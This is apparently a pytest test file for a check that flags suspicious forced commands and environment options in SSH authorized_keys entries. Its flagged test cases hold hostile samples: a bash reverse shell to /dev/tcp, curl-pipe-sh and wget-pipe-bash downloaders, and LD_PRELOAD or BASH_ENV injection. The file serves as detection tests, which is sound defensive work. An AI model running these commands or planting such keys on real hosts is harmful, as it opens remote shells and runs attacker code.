from __future__ import annotations

import pytest

from pratique.checks.persistence.authorized_key_forced import CHECK
from pratique.model import Severity
from pratique.parsers.authorized_keys import AuthorizedKey
from pratique.store.tables import Tables


def severities(options: str) -> list[Severity]:
    key = AuthorizedKey(
        "/root/.ssh/authorized_keys", 3, "root", options, "ssh-ed25519", "SHA256:x", "me"
    )
    signs = CHECK.find(Tables.of([key], CHECK.reads))
    return [sign.severity or CHECK.severity for sign in signs]


@pytest.mark.parametrize(
    ("options", "severity"),
    [
        (r'command="bash -c \"bash -i >& /dev/tcp/192.0.2.1/443 0>&1\""', Severity.HIGH),
        ('no-pty,command="curl -s http://a.example/x | sh"', Severity.HIGH),
        ('Command="wget -qO- http://a.example/x|bash; exec $SHELL"', Severity.HIGH),
        ('command="/dev/shm/.x/run"', Severity.MEDIUM),
        ('command="/bin/bash"', Severity.MEDIUM),
        ('command="bash --noprofile -i"', Severity.MEDIUM),
        ('environment="LD_PRELOAD=/tmp/x.so"', Severity.HIGH),
        ('environment="BASH_ENV=/var/tmp/x"', Severity.HIGH),
    ],
)
def test_points_at(options, severity):
    assert severities(options) == [severity]


@pytest.mark.parametrize(
    "options",
    [
        "",
        "no-pty,no-port-forwarding",
        'from="192.0.2.0/24"',
        'command="rsync --server --sender -vlogDtpre.iLsfxC . /srv"',
        'command="/usr/bin/rrsync -ro /srv/backup",restrict',
        'command="borg serve --append-only --restrict-to-path /srv/borg",restrict',
        'command="/usr/bin/gitolite-shell alice",no-pty',
        r'command="git-shell -c \"$SSH_ORIGINAL_COMMAND\""',
        'command="/usr/local/bin/gitea --config=/etc/gitea/app.ini serv key-1",no-pty',
        'command="/opt/gitlab/embedded/service/gitlab-shell/bin/gitlab-shell key-2"',
        'command="internal-sftp"',
        'command="/usr/local/sbin/backup.sh --all"',
        'command="bash -c /usr/local/sbin/backup.sh"',
        r"""command="echo 'Please login as \"debian\" and not as \"root\".';sleep 10;exit 142" """,
        'environment="EDITOR=vim"',
        'command=""',
    ],
)
def test_leaves_alone(options):
    assert severities(options) == []
